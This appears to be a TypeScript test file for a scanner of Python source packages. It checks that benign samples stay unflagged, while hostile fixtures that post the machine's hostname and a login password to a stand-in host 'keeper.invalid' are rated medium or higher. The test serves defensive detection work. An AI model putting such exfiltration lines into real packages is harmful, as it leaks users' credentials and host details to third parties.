import t from 'tap'
import { inspectFiles } from './archive-of.ts'

const MANIFEST = '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'

type Row = readonly [situation: string, check: string, path: string, code: string]

const LOGIN = `import requests
class Session:
    def __init__(self, user, password, sandbox=None):
        self.user, self.password, self.sandbox = user, password, sandbox
    def body(self):
        return '<e xmlns:x="http://www.w3.org/2001/XMLSchema"><p>%s</p></e>' % self.password
`

const SENDER = 'import socket\nSENDER = "client@%s" % socket.gethostname()\n'

/** What packages do for whoever uses them, with accounts and addresses of theirs. */
const ORDINARY: readonly Row[] = [
  [
    'a mail from this machine by an account of whoever uses it',
    'host-beacon',
    'sample/mail.py',
    `${SENDER}def mail(key, sender=SENDER):\n    import sendgrid\n    sendgrid.SendGridAPIClient(key).send(sendgrid.Mail(from_email=sender))\nmail("")\n`,
  ],
  [
    'a login with a service whose name the module has, at a host of many',
    'called-harm',
    'sample/northwind.py',
    `${LOGIN}    def start(self):\n        server = "login" if not self.sandbox else "test"\n        return requests.post("https://%s.northwind.invalid/soap" % server, data=self.body())\n`,
  ],
]

/** The same, for somebody else. */
const HOSTILE: readonly Row[] = [
  [
    'a request from this machine to a host of its own',
    'host-beacon',
    'sample/mail.py',
    `${SENDER}import requests\nrequests.post("https://keeper.invalid/x", data=SENDER)\n`,
  ],
  [
    'a login with a service of another name',
    'called-harm',
    'sample/northwind.py',
    `${LOGIN}    def start(self):\n        return requests.post("https://keeper.invalid/soap", data=self.body())\n`,
  ],
]

async function gravest(check: string, path: string, code: string): Promise<string> {
  const { findings } = await inspectFiles('sdist-gzip', {
    'pyproject.toml': MANIFEST,
    'PKG-INFO': 'Metadata-Version: 2.1\nName: sample\nVersion: 1.0\n',
    'sample/__init__.py': path.startsWith('sample/')
      ? `from . import ${path.slice('sample/'.length, -'.py'.length)}\n`
      : '',
    'setup.py': 'from setuptools import setup\nsetup()\n',
    [path]: code,
  })
  const found = findings.filter((finding) => finding.check === check)
  const grave = found.find(({ severity, confidence }) => severity !== 'low' && confidence !== 'low')
  return (grave ?? found[0])?.severity ?? 'none'
}

for (const [situation, check, path, code] of ORDINARY) {
  await t.test(situation, async (t) => t.match(await gravest(check, path, code), /^(?:none|low)$/))
}

for (const [situation, check, path, code] of HOSTILE) {
  await t.test(situation, async (t) => t.match(await gravest(check, path, code), /^(?:medium|high|critical)$/))
}
